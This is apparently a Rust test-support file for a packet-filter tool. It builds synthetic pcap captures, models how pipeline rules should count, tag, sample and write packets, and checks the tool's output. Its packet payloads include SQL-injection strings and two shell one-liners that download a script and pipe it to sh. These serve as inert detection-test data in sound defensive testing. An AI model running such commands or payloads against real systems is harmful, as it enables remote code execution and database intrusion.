//! Helpers for the `sift run` tests: a capture of crafted packets with payloads, a naive
//! reading of those packets, a plain model of the pipeline's actions, and readers for what
//! `sift run` prints and writes.

#![allow(dead_code)]

use std::collections::HashMap;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use sift_capture::{PcapWriter, Record, Resolution, Timestamp};

pub const BASE_SECS: i64 = 1_600_000_000;

pub fn sift(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_sift"))
        .args(args)
        .output()
        .expect("run sift")
}

/// A fresh directory for one test.
pub fn scratch(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("pipeline-{name}"));
    std::fs::remove_dir_all(&dir).ok();
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

pub fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// xorshift64*: deterministic, good enough to pick packet shapes.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed.max(1))
    }
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

/// Hosts, the ones on examples/blocklist.txt rarer than the others.
const V4_HOSTS: [[u8; 4]; 12] = [
    [10, 0, 0, 1],
    [10, 0, 0, 1],
    [10, 0, 0, 1],
    [10, 0, 0, 2],
    [10, 0, 0, 2],
    [10, 0, 0, 2],
    [192, 168, 1, 9],
    [192, 168, 1, 9],
    [192, 168, 1, 9],
    [198, 51, 100, 20], // just outside 198.51.100.0/28
    [203, 0, 113, 66],  // on the blocklist
    [198, 51, 100, 5],  // in 198.51.100.0/28
];
const V6_HOSTS: [[u16; 8]; 4] = [
    [0x2001, 0xdb8, 0, 0, 0, 0, 0, 1],
    [0x2001, 0xdb8, 0, 0, 0, 0, 0, 1],
    [0x2001, 0xdb8, 0, 0, 0, 0, 0, 2],
    [0x2001, 0xdb8, 0xbad, 0, 0, 0, 0, 7], // in 2001:db8:bad::/48
];
const PORTS: [u16; 10] = [80, 8080, 8050, 8101, 443, 53, 5353, 22, 1234, 40000];

fn payload(rng: &mut Rng) -> Vec<u8> {
    let texts: [&[u8]; 12] = [
        b"GET /admin/login HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /index.html HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /s?q=1 uNiOn SeLeCt pass FROM users HTTP/1.1\r\n\r\n",
        b"POST /login HTTP/1.0\r\n\r\nuser=' OR '1'='1",
        b"cd /tmp; wget http://198.51.100.200/x.sh; sh x.sh",
        b"GET /wp-admin/ HTTP/1.0\r\n\r\n",
        b"GET /PhpMyAdmin/index.php HTTP/1.1\r\n",
        b"curl http://x/y | sh",
        b"GET /admin HTTP/1.1",
        b"",
        b"get /admin http/1.1\r\n",
        b"SSH-2.0-OpenSSH_9.2\r\n",
    ];
    match rng.below(16) {
        n @ 0..=11 => texts[n as usize].to_vec(),
        12 => {
            // A TLS handshake record.
            let mut p = vec![0x16, 0x03, rng.below(4) as u8, 0x00, 0x80, 0x01];
            p.extend((0..120).map(|_| rng.next() as u8));
            p
        }
        13 => {
            // A DNS query (recursion desired, one question).
            let mut p = vec![
                rng.next() as u8,
                rng.next() as u8,
                1,
                0,
                0,
                1,
                0,
                0,
                0,
                0,
                0,
                0,
            ];
            p.extend(b"\x07example\x03com\x00\x00\x01\x00\x01");
            p
        }
        _ => (0..rng.below(90)).map(|_| rng.next() as u8).collect(),
    }
}

/// One Ethernet packet: ARP, or IPv4/IPv6 with TCP or UDP (IPv4 header options, TCP options,
/// later fragments, and captures cut short inside the payload among them).
fn packet(rng: &mut Rng) -> (Vec<u8>, u32) {
    let mut p = vec![
        0x00, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77, 0x88, 0x99, 0xaa, 0xbb,
    ];
    if rng.below(40) == 0 {
        p.extend([0x08, 0x06, 0, 1, 8, 0, 6, 4, 0, 1]);
        p.extend([2; 6]);
        p.extend(rng.pick(&V4_HOSTS));
        p.extend([0; 6]);
        p.extend(rng.pick(&V4_HOSTS));
        let len = p.len() as u32;
        return (p, len);
    }
    let v6 = rng.below(8) == 0;
    let tcp = rng.below(3) != 0;
    let body = payload(rng);
    let mut transport = Vec::new();
    transport.extend(rng.pick(&PORTS).to_be_bytes());
    transport.extend(rng.pick(&PORTS).to_be_bytes());
    if tcp {
        let words = if rng.below(4) == 0 { 8 } else { 5 };
        transport.extend([
            0,
            0,
            0,
            1,
            0,
            0,
            0,
            2,
            words << 4,
            0x18,
            0xff,
            0xff,
            0,
            0,
            0,
            0,
        ]);
        transport.extend(vec![1u8; (usize::from(words) - 5) * 4]);
    } else {
        transport.extend(((8 + body.len()) as u16).to_be_bytes());
        transport.extend([0, 0]);
    }
    transport.extend(&body);
    let proto = if tcp { 6 } else { 17 };
    if v6 {
        p.extend([0x86, 0xdd, 0x60, 0, 0, 0]);
        p.extend((transport.len() as u16).to_be_bytes());
        p.extend([proto, 64]);
        for host in [rng.pick(&V6_HOSTS), rng.pick(&V6_HOSTS)] {
            p.extend(host.iter().flat_map(|w| w.to_be_bytes()));
        }
    } else {
        let words: u8 = if rng.below(5) == 0 { 6 } else { 5 };
        let total = usize::from(words) * 4 + transport.len();
        // Some later fragments: no transport header there.
        let frag: u16 = if rng.below(12) == 0 { 185 } else { 0 };
        p.extend([0x08, 0x00, 0x40 | words, 0]);
        p.extend((total as u16).to_be_bytes());
        p.extend([0, 1]);
        p.extend(frag.to_be_bytes());
        p.extend([64, proto, 0, 0]);
        p.extend(rng.pick(&V4_HOSTS));
        p.extend(rng.pick(&V4_HOSTS));
        p.extend(vec![1u8; (usize::from(words) - 5) * 4]);
    }
    let payload_start = p.len() + transport.len() - body.len();
    p.extend(transport);
    let wire = p.len() as u32;
    if rng.below(6) == 0 && p.len() > payload_start {
        // Cut inside the payload (headers stay whole).
        let keep = payload_start + rng.below((p.len() - payload_start) as u64) as usize;
        p.truncate(keep);
    }
    (p, wire)
}

/// `n` packets; packet `i` has time stamp `BASE_SECS + i` seconds.
pub fn capture(seed: u64, n: usize) -> Vec<Record> {
    let mut rng = Rng::new(seed);
    (0..n)
        .map(|i| {
            let (data, wire_len) = packet(&mut rng);
            Record {
                timestamp: Timestamp::new(BASE_SECS + i as i64, 250_000_000),
                wire_len,
                linktype: 1,
                interface_id: 0,
                data,
            }
        })
        .collect()
}

pub fn write_pcap(path: &Path, records: &[Record]) {
    let file = std::fs::File::create(path).unwrap();
    let mut w = PcapWriter::new(file, 1, 65535, Resolution::Micro).unwrap();
    for r in records {
        w.write_record(r).unwrap();
    }
    w.flush().unwrap();
}

/// The index of a packet of [`capture`], from its time stamp.
pub fn index_of(ts: &Timestamp) -> usize {
    usize::try_from(ts.secs() - BASE_SECS).unwrap()
}

/// Every record of a pcap or pcapng file.
pub fn records(path: &Path) -> Vec<Record> {
    let mut r = sift_capture::CaptureReader::open(path).unwrap();
    let mut out = Vec::new();
    while let Some(rec) = r.next_record().unwrap() {
        out.push(rec);
    }
    out
}

/// The packets (indices) that `sift filter --ext EXPR` keeps.
pub fn filter_alone(capture: &Path, expr: &str, dir: &Path) -> Vec<usize> {
    let out_path = dir.join("filter-alone.pcap");
    let out = sift(&[
        "filter",
        "--ext",
        "-r",
        capture.to_str().unwrap(),
        "-w",
        out_path.to_str().unwrap(),
        expr,
    ]);
    assert!(
        out.status.success(),
        "{expr}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    records(&out_path)
        .iter()
        .map(|r| index_of(&r.timestamp))
        .collect()
}

/// The comment (`opt_comment`) of each Enhanced Packet Block of a pcapng file written in
/// this machine's byte order, in order.
pub fn pcapng_comments(path: &Path) -> Vec<Option<String>> {
    let bytes = std::fs::read(path).unwrap();
    let u32_at = |i: usize| u32::from_ne_bytes(bytes[i..i + 4].try_into().unwrap());
    let u16_at = |i: usize| u16::from_ne_bytes(bytes[i..i + 2].try_into().unwrap());
    let mut comments = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        let (kind, len) = (u32_at(at), u32_at(at + 4) as usize);
        if kind == 6 {
            let caplen = u32_at(at + 20) as usize;
            let mut opt = at + 28 + caplen.next_multiple_of(4);
            let mut comment = None;
            while opt < at + len - 4 {
                let (code, olen) = (u16_at(opt), usize::from(u16_at(opt + 2)));
                if code == 0 {
                    break;
                }
                if code == 1 {
                    comment =
                        Some(String::from_utf8(bytes[opt + 4..opt + 4 + olen].to_vec()).unwrap());
                }
                opt += 4 + olen.next_multiple_of(4);
            }
            comments.push(comment);
        }
        at += len;
    }
    comments
}

/// A rule of a rules file as the tests read it: name, filter, actions (words).
pub struct TestRule {
    pub name: String,
    pub filter: String,
    pub actions: Vec<Vec<String>>,
}

/// A plain reading of a rules file without strings containing `#`, `:` or `=>`.
pub fn read_rules(text: &str) -> Vec<TestRule> {
    let joined = text
        .lines()
        .map(|l| l.split('#').next().unwrap())
        .collect::<Vec<_>>()
        .join("\n")
        .replace("\\\n", " ");
    joined
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            let rest = l.trim().strip_prefix("rule ").unwrap();
            let (name, rest) = rest.split_once(':').unwrap();
            let (filter, actions) = rest.split_once("=>").unwrap_or((rest, ""));
            TestRule {
                name: name.trim().to_owned(),
                filter: filter.trim().to_owned(),
                actions: actions
                    .split(',')
                    .filter(|a| !a.trim().is_empty())
                    .map(|a| a.split_whitespace().map(str::to_owned).collect())
                    .collect(),
            }
        })
        .collect()
}

/// One row of `sift run`'s table.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Row {
    pub matched: u64,
    pub bytes: u64,
    pub counted: Option<u64>,
    pub written: u64,
    pub sampled_out: u64,
    pub stopped: u64,
    pub tags: String,
}

pub fn parse_table(stdout: &str) -> HashMap<String, Row> {
    stdout
        .lines()
        .skip(1)
        .filter(|l| !l.starts_with("total:"))
        .map(|l| {
            let w: Vec<&str> = l.split_whitespace().collect();
            let n = |i: usize| w[i].parse::<u64>().unwrap();
            let row = Row {
                matched: n(1),
                bytes: n(2),
                counted: (w[3] != "-").then(|| n(3)),
                written: n(4),
                sampled_out: n(5),
                stopped: n(6),
                tags: w[7..].join(" "),
            };
            (w[0].to_owned(), row)
        })
        .collect()
}

/// A packet as a write action wrote it: index, captured length, comment (the tags).
pub type Written = (usize, usize, Option<String>);

/// What the pipeline should do, worked out packet by packet from each rule's own verdicts
/// (`verdicts[rule][packet]`), by the semantics in docs/pipelines.md.
pub fn model(
    rules: &[TestRule],
    verdicts: &[Vec<bool>],
    packets: &[Record],
) -> (HashMap<String, Row>, HashMap<String, Vec<Written>>) {
    let mut rows: Vec<Row> = vec![Row::default(); rules.len()];
    let mut tags_seen: Vec<Vec<(String, u64)>> = vec![Vec::new(); rules.len()];
    let mut files: HashMap<String, Vec<Written>> = HashMap::new();
    let mut samples: HashMap<(usize, usize), u64> = HashMap::new();
    for (p, packet) in packets.iter().enumerate() {
        let mut tags: Vec<String> = Vec::new();
        'rules: for (r, rule) in rules.iter().enumerate() {
            if !verdicts[r][p] {
                continue;
            }
            rows[r].matched += 1;
            rows[r].bytes += u64::from(packet.wire_len);
            for t in &tags {
                match tags_seen[r].iter_mut().find(|(n, _)| n == t) {
                    Some((_, c)) => *c += 1,
                    None => tags_seen[r].push((t.clone(), 1)),
                }
            }
            let mut caplen = packet.data.len();
            for (a, action) in rule.actions.iter().enumerate() {
                match action[0].as_str() {
                    "count" => *rows[r].counted.get_or_insert(0) += 1,
                    "write" => {
                        rows[r].written += 1;
                        let comment = (!tags.is_empty()).then(|| tags.join(","));
                        files
                            .entry(action[1].clone())
                            .or_default()
                            .push((p, caplen, comment));
                    }
                    "sample" => {
                        let every: u64 = action[1].parse().unwrap();
                        let seen = samples.entry((r, a)).or_insert(0);
                        *seen += 1;
                        if !(*seen - 1).is_multiple_of(every) {
                            rows[r].sampled_out += 1;
                            continue 'rules;
                        }
                    }
                    "truncate" => caplen = caplen.min(action[1].parse().unwrap()),
                    "tag" => {
                        if !tags.contains(&action[1]) {
                            tags.push(action[1].clone());
                        }
                    }
                    "stop" => {
                        rows[r].stopped += 1;
                        break 'rules;
                    }
                    other => panic!("unknown action {other}"),
                }
            }
        }
    }
    let mut table = HashMap::new();
    for (r, rule) in rules.iter().enumerate() {
        let mut row = rows[r].clone();
        if rule.actions.iter().any(|a| a[0] == "count") && row.counted.is_none() {
            row.counted = Some(0);
        }
        // Tags are listed in the order rules first attach them.
        let order: Vec<&String> = rules
            .iter()
            .flat_map(|r| r.actions.iter().filter(|a| a[0] == "tag").map(|a| &a[1]))
            .collect();
        let mut seen: Vec<&(String, u64)> = tags_seen[r].iter().collect();
        seen.sort_by_key(|(t, _)| order.iter().position(|o| *o == t));
        row.tags = if seen.is_empty() {
            "-".to_owned()
        } else {
            seen.iter()
                .map(|(t, n)| format!("{t}={n}"))
                .collect::<Vec<_>>()
                .join(" ")
        };
        table.insert(rule.name.clone(), row);
    }
    (table, files)
}

/// Checks a file `sift run` wrote against the model's list: the same packets in order, their
/// bytes cut as the model says, the original lengths and time stamps, and (pcapng) comments.
pub fn check_written(path: &Path, expected: &[Written], packets: &[Record]) {
    let got = records(path);
    assert_eq!(got.len(), expected.len(), "{}", path.display());
    for (rec, &(p, caplen, _)) in got.iter().zip(expected) {
        let original = &packets[p];
        assert_eq!(index_of(&rec.timestamp), p, "{}", path.display());
        assert_eq!(rec.timestamp.to_nanos(), original.timestamp.to_nanos());
        assert_eq!(rec.wire_len, original.wire_len);
        assert_eq!(
            rec.data,
            original.data[..caplen],
            "{} packet {p}",
            path.display()
        );
    }
    if path.extension().is_some_and(|e| e == "pcapng") {
        let comments = pcapng_comments(path);
        let wanted: Vec<Option<String>> = expected.iter().map(|w| w.2.clone()).collect();
        assert_eq!(comments, wanted, "{}", path.display());
    }
}

/// A naive reading of a packet: addresses, transport, ports and the captured payload.
#[derive(Debug, Default)]
pub struct Parsed {
    pub arp: bool,
    pub addrs: Vec<IpAddr>,
    pub tcp: bool,
    pub udp: bool,
    /// Ports and payload: only for a first (or no) fragment.
    pub ports: Option<(u16, u16)>,
    pub payload: Option<Vec<u8>>,
}

pub fn parse_packet(data: &[u8]) -> Parsed {
    let mut parsed = Parsed::default();
    let ethertype = u16::from_be_bytes([data[12], data[13]]);
    let ip4 = |at: usize| IpAddr::from(<[u8; 4]>::try_from(&data[at..at + 4]).unwrap());
    let (transport, proto, first) = match ethertype {
        0x0806 => {
            parsed.arp = true;
            parsed.addrs = vec![ip4(28), ip4(38)];
            return parsed;
        }
        0x0800 => {
            let ihl = usize::from(data[14] & 0x0f) * 4;
            parsed.addrs = vec![ip4(26), ip4(30)];
            let frag = u16::from_be_bytes([data[20], data[21]]) & 0x1fff;
            (14 + ihl, data[23], frag == 0)
        }
        0x86dd => {
            let ip6 = |at: usize| IpAddr::from(<[u8; 16]>::try_from(&data[at..at + 16]).unwrap());
            parsed.addrs = vec![ip6(22), ip6(38)];
            (54, data[20], true)
        }
        _ => return parsed,
    };
    parsed.tcp = proto == 6;
    parsed.udp = proto == 17;
    if first && (parsed.tcp || parsed.udp) {
        let port = |at: usize| u16::from_be_bytes([data[at], data[at + 1]]);
        parsed.ports = Some((port(transport), port(transport + 2)));
        let header = if parsed.tcp {
            usize::from(data[transport + 12] >> 4) * 4
        } else {
            8
        };
        parsed.payload = Some(data.get(transport + header..).unwrap_or(&[]).to_vec());
    }
    parsed
}

pub fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

pub fn contains_nocase(haystack: &[u8], needle: &[u8]) -> bool {
    haystack
        .windows(needle.len())
        .any(|w| w.eq_ignore_ascii_case(needle))
}
